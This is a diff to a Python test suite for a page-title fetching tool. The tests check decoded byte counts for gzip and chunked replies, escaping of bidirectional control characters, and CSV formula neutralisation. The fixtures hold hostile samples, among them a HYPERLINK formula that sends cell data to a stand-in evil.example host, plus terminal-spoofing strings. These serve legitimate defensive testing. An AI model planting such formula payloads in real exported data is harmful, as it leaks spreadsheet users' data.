@@ -3,6 +3,7 @@ as a page, with the reason recorded; text output that cannot reorder or fake the
 line; CSV a spreadsheet will not run as formulas (--csv-safe). Run by test_records.sh inside a
 fresh network namespace."""
 import csv
+import gzip
 import io
 import json
 import os
@@ -27,13 +28,34 @@ PAGES = {  # path: (Content-Type header or None, body)
               "<title>a\u202eb\u2066c\u2028d\\x1b e\\\\f</title>".encode()),
     "/formula": (b"text/html; charset=utf-8",
                  b'<title>=HYPERLINK("http://evil.example/?x="&A1,"Click")</title>'),
+    "/bidi-rest": (b"text/html; charset=utf-8",
+                   "<title>p\u2029q\u2067r\u2068s\u2069t</title>".encode()),
+    "/plus": (b"text/html", b"<title>+1+2</title>"),
+    "/minus": (b"text/html", b"<title>-2+3</title>"),
+    "/at": (b"text/html", b"<title>@SUM(A1)</title>"),
     "/late-title": (b"text/html", b"<html><head>" + b" " * 300 + b"<title>Late</title>"),
     "/long-title": (b"text/html", b"<title>" + b"x" * 300 + b"</title>"),
 }
+# The title last, so that the whole body is read: bytes is then exactly its decoded size.
+GZIP_PAGE = b"<html><head>" + b"<!-- filler -->" * 2000 + b"<title>Zipped</title>"
+
+
+def chunked_reply(chunks):
+    """A chunked 200 that closes the connection: each chunk its own size line."""
+    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n" \
+           b"Connection: close\r\n\r\n"
+    return head + b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in chunks) + b"0\r\n\r\n"
 
 
 def answer(head):
-    ctype, body = PAGES[head.split(b" ")[1].decode()]
+    path = head.split(b" ")[1].decode()
+    if path == "/chunked":  # the title in the first of 50 chunks of 8 KiB: stopped early
+        return chunked_reply([b"<title>Chunks</title>" + b" " * 8171] + [b"x" * 8192] * 49)
+    if path == "/gzip":
+        z = gzip.compress(GZIP_PAGE)
+        return b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n" \
+            b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(z) + z
+    ctype, body = PAGES[path]
     return http_reply(body, ctype)
 
 
@@ -86,6 +108,26 @@ def test_a_body_cut_at_max_bytes_says_so():
         f"(body cut at --max-bytes 50 before any title) from {srv.url('/late-title')}\n"
 
 
+def test_bytes_is_the_decoded_body_received():
+    # issue 15 item 14: bytes is the body received, after decoding (httpx's content_length;
+    # curl's size_download counts it before), whether read whole or stopped at the title
+    r = cafe("titles", "-q", "--json", listing(["/gzip", "/chunked", "/late-title"]))
+    assert r.returncode == 0, r.stderr
+    recs = {x["url"][len(srv.url("")):]: x for x in map(json.loads, r.stdout.splitlines())}
+    z = recs["/gzip"]
+    assert z["title"] == "Zipped" and z["bytes"] == len(GZIP_PAGE), z  # not the gzip size
+    # stopped at the title in the first chunk, connection closed: what arrived by then (it
+    # used to say 0: curl counts a chunked read only once the callback took it)
+    c = recs["/chunked"]
+    assert c["title"] == "Chunks" and 0 < c["bytes"] < 50 * 8192, c
+    assert recs["/late-title"]["bytes"] == len(PAGES["/late-title"][1]), recs["/late-title"]
+    # cut at --max-bytes: what was received, at least the cap, at most the page
+    r = cafe("titles", "-q", "--json", "--max-bytes", "50", listing(["/late-title"]))
+    late = json.loads(r.stdout)
+    assert 50 <= late["bytes"] <= len(PAGES["/late-title"][1]), late
+    assert late["error"] == "body cut at --max-bytes 50 before any title", late
+
+
 def test_text_output_escapes_what_could_fool_the_terminal():
     r = cafe("titles", "-q", listing(["/bidi"]))
     line = r.stdout.decode().splitlines()[0]
@@ -93,6 +135,10 @@ def test_text_output_escapes_what_could_fool_the_terminal():
     assert line == ("'a\\u202eb\\u2066c\\u2028d\\\\x1b e\\\\\\\\f' from " + srv.url("/bidi")), line
     r = cafe("titles", "-q", "--json", listing(["/bidi"]))  # JSON keeps the title as it is
     assert json.loads(r.stdout)["title"] == "a\u202eb\u2066c\u2028d\\x1b e\\\\f", r.stdout
+    # the rest of the issue's list: U+2029 and the isolates U+2067-2069
+    r = cafe("titles", "-q", listing(["/bidi-rest"]))
+    assert r.stdout.decode() == ("'p\\u2029q\\u2067r\\u2068s\\u2069t' from "
+                                 + srv.url("/bidi-rest") + "\n"), r.stdout
 
 
 def test_csv_safe_quotes_formulas_only_when_asked():
@@ -103,6 +149,10 @@ def test_csv_safe_quotes_formulas_only_when_asked():
         rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
         titles = {x["url"][len(srv.url("")):]: x["title"] for x in rows}
         assert titles == {"/formula": want, "/html": "Inside"}, (opt, titles)
+    # OWASP's other formula starts: + - @
+    r = cafe("titles", "-q", "--csv-safe", listing(["/plus", "/minus", "/at"]))
+    rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
+    assert [x["title"] for x in rows] == ["'+1+2", "'-2+3", "'@SUM(A1)"], rows
 
 
 def test_csv_safe_resume_takes_the_mark_off_the_urls():
